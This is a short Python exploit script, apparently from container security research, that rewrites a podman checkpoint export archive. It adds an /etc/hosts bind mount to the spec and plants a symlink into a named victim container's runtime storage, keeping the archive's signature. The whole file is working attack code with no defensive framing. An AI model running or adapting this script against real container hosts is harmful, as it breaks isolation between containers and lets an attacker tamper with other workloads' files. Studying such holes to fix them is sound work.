"""attack30i: HOLE C without a volume: this node's SIGNED export (signature kept), root entries (podman untars them into
the container's userdata) attack30i-l/overlay-containers/<ID> -> /run/containers/storage/overlay-containers/<VICTIM>,
spec.dump a second /etc/hosts bind from <graphroot>/overlay-containers//<ID>/userdata/attack30i-l/overlay-containers/
<ID>/userdata/hosts ('//': the planted marker is the first literal one) = "<self>/userdata/hosts".
usage: victimhosts.py SRC OUT VICTIM_ID"""
import io, json, sys, tarfile
import zstandard

src, out, victim = sys.argv[1:4]
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if m.name == "spec.dump":
            spec = json.loads(d)
            spec["mounts"].append({"destination": "/etc/hosts", "type": "bind", "options": ["bind", "private"], "source":
                f"/var/lib/containers/storage/overlay-containers//{cid}/userdata/attack30i-l/overlay-containers/{cid}/userdata/hosts"})
            d = json.dumps(spec).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
    for name, kind, link in (("attack30i-l", tarfile.DIRTYPE, ""), ("attack30i-l/overlay-containers", tarfile.DIRTYPE, ""),
                             (f"attack30i-l/overlay-containers/{cid}", tarfile.SYMTYPE,
                              f"/run/containers/storage/overlay-containers/{victim}")):
        i = tarfile.TarInfo(name); i.type, i.mode, i.linkname = kind, 0o755, link; tout.addfile(i)
